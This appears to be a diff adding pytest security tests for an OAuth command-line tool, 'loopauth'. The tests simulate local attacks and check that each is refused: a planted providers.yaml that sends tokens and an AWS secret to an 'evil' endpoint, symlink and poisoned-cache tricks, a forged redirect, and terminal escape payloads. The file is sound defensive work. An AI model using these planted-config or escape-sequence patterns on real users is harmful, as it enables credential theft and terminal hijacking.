@@ -1,0 +1,510 @@
+"""An attacker on the same machine: a folder the user cd's into, another local user, a provider
+that lies. Each test plays the attack through the CLI, as the user would meet it."""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import stat
+import sys
+import time
+import tracemalloc
+from pathlib import Path
+from urllib.parse import parse_qs, quote, urlsplit
+
+import pytest
+
+from loopauth.emulator import EmulatorUser, OAuthEmulator, browse
+from loopauth.errors import ConfigError
+
+from conftest import cli, login, write_config
+
+posix = pytest.mark.skipif(os.name != "posix", reason="POSIX owners and modes")
+
+
+def other_uid() -> int:
+    """A second local user for the attacker's files: needs root (CI runs as root)."""
+    if os.name == "posix" and os.geteuid() == 0:
+        return 65534  # nobody
+    message = "needs root to own files as a second local user (uid 65534)"
+    if os.environ.get("CI", "").lower() == "true":
+        pytest.fail(f"CI=true and {message}")
+    pytest.skip(message)
+
+
+def emu_config(path: Path, emu: OAuthEmulator, extra: str = "") -> Path:
+    write_config(
+        path,
+        f"""
+        providers:
+          emu:
+            issuer: {emu.url}
+            client_id: loopauth-demo
+            scope: openid profile email
+    """,
+    )
+    path.write_text(path.read_text() + extra)
+    return path
+
+
+def token_file(home: Path, provider: str = "emu") -> Path:
+    [path] = (home / "tokens" / provider).glob("*.json")
+    return path
+
+
+# -- 1. A providers.yaml in the current folder ---------------------------------------------
+
+
+def test_a_providers_yaml_in_the_current_folder_cannot_hijack_the_provider(
+    tmp_path: Path, isolated: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    with OAuthEmulator() as honest, OAuthEmulator() as evil:
+        user_dir = tmp_path / "xdg-config" / "loopauth"
+        user_dir.mkdir(parents=True)
+        emu_config(user_dir / "providers.yaml", honest)
+        assert login("login", "emu").returncode == 0
+        path = token_file(isolated)
+        snapshot = path.read_bytes()
+        repo = tmp_path / "cloned-repo"
+        repo.mkdir()
+        planted = write_config(
+            repo / "providers.yaml",
+            f"""
+            providers:
+              emu:
+                client_id: loopauth-demo
+                authorization_endpoint: {evil.url}/authorize
+                token_endpoint: {evil.url}/token
+                refresh_leeway: 999999999
+                token_params:
+                  aws: ${{AWS_SECRET_ACCESS_KEY}}
+        """,
+        )
+        monkeypatch.chdir(repo)
+        env = {"AWS_SECRET_ACCESS_KEY": "aws-secret-value"}
+        out = cli("token", "emu", env=env)
+        assert out.returncode == 2, out.stderr
+        assert str(planted) in out.stderr and "has not been approved" in out.stderr
+        assert f"loopauth trust {planted}" in out.stderr and "--config" in out.stderr
+        assert out.stdout == "" and "aws-secret-value" not in out.stderr
+        # Approved by mistake: the token still goes back only to whoever issued it.
+        assert cli("trust").returncode == 0
+        out = cli("token", "emu", env=env)
+        assert out.returncode == 6, out.stderr
+        assert f"127.0.0.1:{honest.port}" in out.stderr and f"127.0.0.1:{evil.port}" in out.stderr
+        assert "loopauth sent nothing" in out.stderr and "loopauth login emu" in out.stderr
+        assert evil.log == []
+        assert path.read_bytes() == snapshot
+
+
+def test_trust_records_the_exact_content_and_a_change_needs_it_again(
+    tmp_path: Path, isolated: Path, emulator: OAuthEmulator
+) -> None:
+    cfg = emu_config(tmp_path / "providers.yaml", emulator)  # the test's cwd
+    assert cli("providers").returncode == 2
+    approved = cli("trust")
+    assert approved.returncode == 0, approved.stderr
+    assert f"Approved {cfg}" in approved.stderr and f"emu: 127.0.0.1:{emulator.port}" in (
+        approved.stderr
+    )
+    listed = json.loads((isolated / "trusted.json").read_text())["files"]
+    import hashlib
+
+    assert listed == {str(cfg): hashlib.sha256(cfg.read_bytes()).hexdigest()}
+    assert login("login").returncode == 0
+    token = cli("token")
+    assert token.returncode == 0 and token.stdout.strip()
+    # Same size, same mtime, other content: the cached-token path checks the hash too.
+    st = cfg.stat()
+    cfg.write_text(cfg.read_text().replace("profile", "PROFILE"))
+    os.utime(cfg, ns=(st.st_atime_ns, st.st_mtime_ns))
+    changed = cli("token")
+    assert changed.returncode == 2 and changed.stdout == ""
+    assert "has changed since you approved it" in changed.stderr
+    assert cli("trust").returncode == 0 and cli("token").returncode == 0
+    revoked = cli("trust", "--revoke")
+    assert revoked.returncode == 0 and "approval withdrawn" in revoked.stderr
+    assert cli("token").returncode == 2
+    # Files named explicitly need no approval.
+    assert cli("--config", str(cfg), "token").returncode == 0
+    assert cli("token", env={"LOOPAUTH_CONFIG": str(cfg)}).returncode == 0
+
+
+@posix
+def test_a_file_of_another_user_or_writable_by_others_is_never_approved(
+    tmp_path: Path, emulator: OAuthEmulator
+) -> None:
+    cfg = emu_config(tmp_path / "providers.yaml", emulator)
+    cfg.chmod(0o666)
+    out = cli("trust")
+    assert out.returncode == 2 and "writable by group or others" in out.stderr
+    cfg.chmod(0o644)
+    assert cli("trust").returncode == 0
+    cfg.chmod(0o664)  # approved, then opened to others: no longer used
+    out = cli("providers")
+    assert out.returncode == 2 and "writable by group or others" in out.stderr
+    cfg.chmod(0o644)
+    os.chown(cfg, other_uid(), -1)
+    out = cli("providers")
+    assert out.returncode == 2 and "owned by another user" in out.stderr
+    assert cli("trust").returncode == 2
+
+
+def test_verbose_names_the_providers_yaml_in_use(tmp_path: Path, config: Path) -> None:
+    out = cli("-v", "--config", str(config), "providers")
+    assert f"using {config} (from --config)" in out.stderr
+    assert cli("trust").returncode == 0
+    out = cli("-v", "providers")
+    assert f"using {config} (from the current folder)" in out.stderr
+
+
+# -- 1b. A token is bound to who issued it -------------------------------------------------
+
+
+def test_a_token_is_refreshed_only_where_it_was_issued(
+    tmp_path: Path, isolated: Path, config: Path, emulator: OAuthEmulator
+) -> None:
+    assert login("--config", str(config), "login").returncode == 0
+    path = token_file(isolated)
+    bound = json.loads(path.read_text())["bound_to"]
+    assert bound == {
+        "token_endpoint": f"{emulator.url}/token",
+        "refresh_endpoint": f"{emulator.url}/token",
+        "issuer": emulator.url,
+        "client_id": "loopauth-demo",
+    }
+    snapshot = path.read_bytes()
+    with OAuthEmulator() as other:
+        moved = emu_config(
+            tmp_path / "moved.yaml", emulator, f"    refresh_endpoint: {other.url}/token\n"
+        )
+        out = cli("--config", str(moved), "refresh")
+        assert out.returncode == 6, out.stderr
+        assert f"issued by 127.0.0.1:{emulator.port}" in out.stderr
+        assert f"now names 127.0.0.1:{other.port}" in out.stderr
+        assert "loopauth login emu" in out.stderr
+        assert other.log == []
+    client = write_config(
+        tmp_path / "client.yaml",
+        f"""
+        providers:
+          emu:
+            issuer: {emulator.url}
+            client_id: demo-confidential
+            client_secret: demo-secret
+    """,
+    )
+    out = cli("--config", str(client), "refresh")
+    assert out.returncode == 6 and "client id 'loopauth-demo'" in out.stderr
+    assert "client id 'demo-confidential'" in out.stderr and "demo-secret" not in out.stderr
+    assert path.read_bytes() == snapshot
+    assert [c["grant_type"] for c in emulator.token_calls] == ["authorization_code"]
+    assert cli("--config", str(config), "refresh").returncode == 0
+
+
+def test_tokens_saved_before_binding_are_bound_on_first_use(
+    isolated: Path, config: Path, emulator: OAuthEmulator
+) -> None:
+    assert login("--config", str(config), "login").returncode == 0
+    path = token_file(isolated)
+    data = json.loads(path.read_text())
+    del data["bound_to"]
+    path.write_text(json.dumps(data))
+    from loopauth import get_token
+
+    get_token("emu", config=str(config))
+    assert json.loads(path.read_text())["bound_to"]["token_endpoint"] == f"{emulator.url}/token"
+
+
+# -- 3. The browser's command line ---------------------------------------------------------
+
+RECORDING_BROWSER = """
+import json, os, stat, sys
+from loopauth.emulator import browse
+page = sys.argv[1]
+path = page[len("file://"):]
+st, folder = os.stat(path), os.stat(os.path.dirname(path))
+json.dump({"argv": sys.argv, "env": sorted(os.environ), "page": open(path).read(),
+           "mode": stat.S_IMODE(st.st_mode), "dir_mode": stat.S_IMODE(folder.st_mode),
+           "path": path}, open(sys.argv[2], "w"))
+browse(page)
+"""
+
+
+def test_the_browser_is_never_given_the_state_nor_the_secret_variables(
+    tmp_path: Path, emulator: OAuthEmulator
+) -> None:
+    cfg = write_config(
+        tmp_path / "p.yaml",
+        f"""
+        providers:
+          emu:
+            issuer: {emulator.url}
+            client_id: demo-confidential
+            client_secret: ${{EMU_SECRET}}
+    """,
+    )
+    script = tmp_path / "browser.py"
+    script.write_text(RECORDING_BROWSER)
+    record = tmp_path / "record.json"
+    out = cli(
+        "--config",
+        str(cfg),
+        "login",
+        env={"BROWSER": f"{sys.executable} {script} %s {record}", "EMU_SECRET": "demo-secret"},
+    )
+    assert out.returncode == 0, out.stderr
+    seen = json.loads(record.read_text())
+    url = next(line for line in out.stderr.splitlines() if line.startswith("http"))
+    state = parse_qs(urlsplit(url).query)["state"][0]
+    assert state not in " ".join(seen["argv"]) and seen["argv"][1].startswith("file://")
+    assert state in seen["page"]  # the private page forwards to the URL...
+    if os.name == "posix":
+        assert (seen["mode"], seen["dir_mode"]) == (0o600, 0o700)  # ...and only we can read it
+    assert "EMU_SECRET" not in seen["env"] and "PATH" in seen["env"]
+    assert not Path(seen["path"]).exists()  # removed once the login ended
+
+
+# -- 4. Files under a permissive umask, a shared or planted LOOPAUTH_HOME -------------------
+
+
+@posix
+def test_a_permissive_umask_still_makes_every_folder_0700_and_file_0600(
+    tmp_path: Path, config: Path
+) -> None:
+    home = tmp_path / "a" / "b" / "home"
+    output = tmp_path / "x" / "y" / "token.json"
+    env = {"LOOPAUTH_HOME": str(home)}
+    old = os.umask(0)
+    try:
+        assert (
+            login("--config", str(config), "login", "--output", str(output), env=env).returncode
+            == 0
+        )
+        assert cli("token", env=env).returncode == 2  # not approved yet, nothing more
+        assert cli("trust", env=env).returncode == 0
+        assert cli("token", env=env).returncode == 0
+    finally:
+        os.umask(old)
+    for folder in (tmp_path / "a", tmp_path / "a" / "b", tmp_path / "x", output.parent):
+        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
+    files = [output]
+    for root, dirs, names in os.walk(home):
+        for name in dirs:
+            assert stat.S_IMODE(os.stat(os.path.join(root, name)).st_mode) == 0o700, name
+        files += [Path(root, name) for name in names]
+    assert {f.suffix for f in files} >= {".json", ".lock"} and home / "trusted.json" in files
+    for path in files:
+        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
+
+
+@posix
+def test_a_token_planted_by_another_user_is_refused(isolated: Path, config: Path) -> None:
+    uid = other_uid()
+    assert login("--config", str(config), "login").returncode == 0
+    path = token_file(isolated)
+    os.chown(path, uid, -1)
+    out = cli("--config", str(config), "token")
+    assert out.returncode == 2 and out.stdout == ""
+    assert f"token file {path} is owned by another user" in out.stderr
+    # A whole token tree prepared by someone else (a shared LOOPAUTH_HOME) is refused as well.
+    os.chown(path, 0, -1)
+    for folder in (path.parent, path.parent.parent):
+        os.chown(folder, uid, -1)
+    out = cli("--config", str(config), "status")
+    assert out.returncode == 2 and f"{path.parent} is owned by another user" in out.stderr
+
+
+@posix
+def test_a_token_folder_open_to_others_is_refused(isolated: Path, config: Path) -> None:
+    assert login("--config", str(config), "login").returncode == 0
+    folder = token_file(isolated).parent
+    folder.chmod(0o777)
+    out = cli("--config", str(config), "token")
+    assert out.returncode == 2 and f"chmod go-w {folder}" in out.stderr
+
+
+@posix
+def test_the_cache_is_never_written_through_a_planted_link(
+    tmp_path: Path, isolated: Path, config: Path
+) -> None:
+    from loopauth.fastpath import _cache_path
+
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious")
+    cache = Path(_cache_path(str(config)))
+    cache.parent.mkdir(parents=True, mode=0o700)
+    os.symlink(victim, cache)
+    last = (
+        int(Path("/proc/sys/kernel/ns_last_pid").read_text())
+        if Path("/proc/sys/kernel/ns_last_pid").exists()
+        else os.getpid()
+    )
+    for pid in range(last + 1, last + 300):  # where an older version wrote its temp file
+        os.symlink(victim, f"{cache}.{pid}.tmp")
+    assert cli("--config", str(config), "providers").returncode == 0
+    assert victim.read_text() == "precious"
+    assert not cache.is_symlink() and stat.S_IMODE(cache.stat().st_mode) == 0o600
+
+
+@posix
+@pytest.mark.parametrize("poison", ["writable", "owner"])
+def test_a_poisoned_cache_cannot_skip_a_refresh(
+    poison: str, isolated: Path, config: Path, emulator: OAuthEmulator
+) -> None:
+    from loopauth.fastpath import _cache_path
+
+    assert login("--config", str(config), "login").returncode == 0
+    path = token_file(isolated)
+    data = json.loads(path.read_text())
+    data["expires_at"] = time.time() - 10
+    path.write_text(json.dumps(data))
+    cache = Path(_cache_path(str(config)))
+    cached = json.loads(cache.read_text())
+    cached["providers"]["emu"]["refresh_leeway"] = -1e12  # "never refresh"
+    cache.write_text(json.dumps(cached))
+    if poison == "writable":
+        cache.chmod(0o666)
+    else:
+        os.chown(cache, other_uid(), -1)
+    out = cli("--config", str(config), "token")
+    assert out.returncode == 0, out.stderr
+    assert out.stdout.strip() != data["access_token"]
+    assert [c["grant_type"] for c in emulator.token_calls][-1] == "refresh_token"
+
+
+@posix
+def test_a_trust_list_open_to_others_approves_nothing(isolated: Path, config: Path) -> None:
+    assert cli("trust").returncode == 0
+    (isolated / "trusted.json").chmod(0o666)
+    out = cli("providers")
+    assert out.returncode == 2
+    assert f"the trust list {isolated / 'trusted.json'} is writable by group or others" in (
+        out.stderr
+    )
+
+
+# -- 5. Mix-up with a provider that has no issuer -------------------------------------------
+
+
+def test_an_iss_from_another_server_is_ignored_when_the_issuer_is_unknown(
+    emulator: OAuthEmulator,
+) -> None:
+    from loopauth.config import parse
+    from loopauth.flow import Flow, State
+
+    provider = parse(f"""
+providers:
+  e:
+    client_id: loopauth-demo
+    authorization_endpoint: {emulator.url}/authorize
+    token_endpoint: {emulator.url}/token
+""").select("e")
+    flow = Flow(provider)
+    url = flow.start()
+    state = parse_qs(urlsplit(url).query)["state"][0]
+    forged = browse(f"{flow.redirect_uri}?state={state}&code=stolen&iss=https://evil.example")
+    assert forged.status == 400 and "another server" in forged.body
+    assert flow.state is State.WAITING_FOR_REDIRECT and emulator.token_calls == []
+    page = browse(url)  # the emulator's own iss: the origin of the authorization endpoint
+    assert page.status == 200
+    assert flow.wait(10) is State.SUCCEEDED
+    flow.cancel()
+
+
+# -- 7. Terminal escapes from the provider --------------------------------------------------
+
+HOSTILE = "\x1b]52;c;cHduZWQ=\x07\x1b]0;pwned\x07\x1b[2J\x9b31m\u202e"
+
+
+def test_provider_text_never_reaches_the_terminal_raw(tmp_path: Path) -> None:
+    user = EmulatorUser("eve-1", f"Eve{HOSTILE}", f"eve{HOSTILE}@example.test")
+    with OAuthEmulator(users=[user]) as emu:
+        cfg = emu_config(tmp_path / "p.yaml", emu)
+        outputs = [login("--config", str(cfg), "login")]
+        outputs.append(cli("--config", str(cfg), "status"))
+        outputs.append(cli("-v", "--config", str(cfg), "refresh"))
+        status = cli("--config", str(cfg), "status", "--json")
+        assert HOSTILE in json.loads(status.stdout)[0]["account_label"]  # escaped, not lost
+
+        def forged_error(url: str) -> None:
+            state = parse_qs(urlsplit(url).query)["state"][0]
+            redirect = parse_qs(urlsplit(url).query)["redirect_uri"][0]
+            browse(
+                f"{redirect}?state={state}&iss={quote(emu.url)}&error=access_denied"
+                f"&error_description=x{quote(HOSTILE)}"
+            )
+
+        denied = login("--config", str(cfg), "login", decision=None, before=forged_error)
+        assert denied.returncode == 3
+        outputs.append(denied)
+    for out in [*outputs, status]:
+        text = out.stdout + out.stderr
+        assert not any(c in text for c in "\x1b\x07\x9b\u202e"), text
+    assert "\\x1b]52;c;cHduZWQ=\\x07" in outputs[0].stderr  # shown, not obeyed
+
+
+# -- 8. Smaller ones ----------------------------------------------------------------------
+
+
+def test_provider_names_match_their_pattern_as_a_whole() -> None:
+    from loopauth.config import parse
+
+    text = 'providers:\n  "abc\\n":\n    client_id: x\n    issuer: https://x.example\n'
+    with pytest.raises(ConfigError, match="provider names use letters"):
+        parse(text).select("abc\n")
+
+
+def test_a_config_error_never_echoes_a_substituted_value(tmp_path: Path) -> None:
+    cfg = write_config(
+        tmp_path / "p.yaml",
+        """
+        providers:
+          a:
+            client_id: x
+            authorization_endpoint: ${AUTH_URL}
+            token_endpoint: https://ok.example/token
+          b:
+            client_id: x
+            authorization_endpoint: https://ok.example/a
+            token_endpoint: ${TOKEN_URL}
+    """,
+    )
+    env = {"AUTH_URL": "http://secret-host.example/a", "TOKEN_URL": "https://h:99999999secret/"}
+    for name in ("a", "b"):
+        out = cli("--config", str(cfg), "token", name, env=env)
+        assert out.returncode == 2 and "secret" not in out.stderr, out.stderr
+        assert "'${AUTH_URL}' must use https" in out.stderr or (
+            "'${TOKEN_URL}' is not a valid URL" in out.stderr
+        )
+
+
+def test_an_oversized_or_node_heavy_providers_yaml_is_refused_cheaply(tmp_path: Path) -> None:
+    from loopauth.config import MAX_BYTES, parse
+
+    big = tmp_path / "big.yaml"
+    big.write_text("# " + "x" * MAX_BYTES + "\n")
+    out = cli("--config", str(big), "providers")
+    assert out.returncode == 2 and "is larger than 1024 KiB; refused" in out.stderr
+    flow_list = "providers: [" + "a," * (MAX_BYTES // 2 - 20) + "a]\n"
+    assert len(flow_list) <= MAX_BYTES
+    tracemalloc.start()
+    try:
+        with pytest.raises(ConfigError, match="more than 20000 YAML nodes"):
+            parse(flow_list, "flow.yaml")
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert peak < 64 << 20, peak  # stopped while composing, not after half a million nodes
+
+
+def test_the_emulator_on_a_busy_port_is_a_clear_error() -> None:
+    with socket.socket() as busy:
+        busy.bind(("127.0.0.1", 0))
+        busy.listen()
+        port = busy.getsockname()[1]
+        out = cli("emulator", "--port", str(port), timeout=20)
+    assert out.returncode == 2, out.stderr
+    assert f"cannot listen on 127.0.0.1:{port}" in out.stderr and "another program" in out.stderr
+    assert "internal error" not in out.stderr
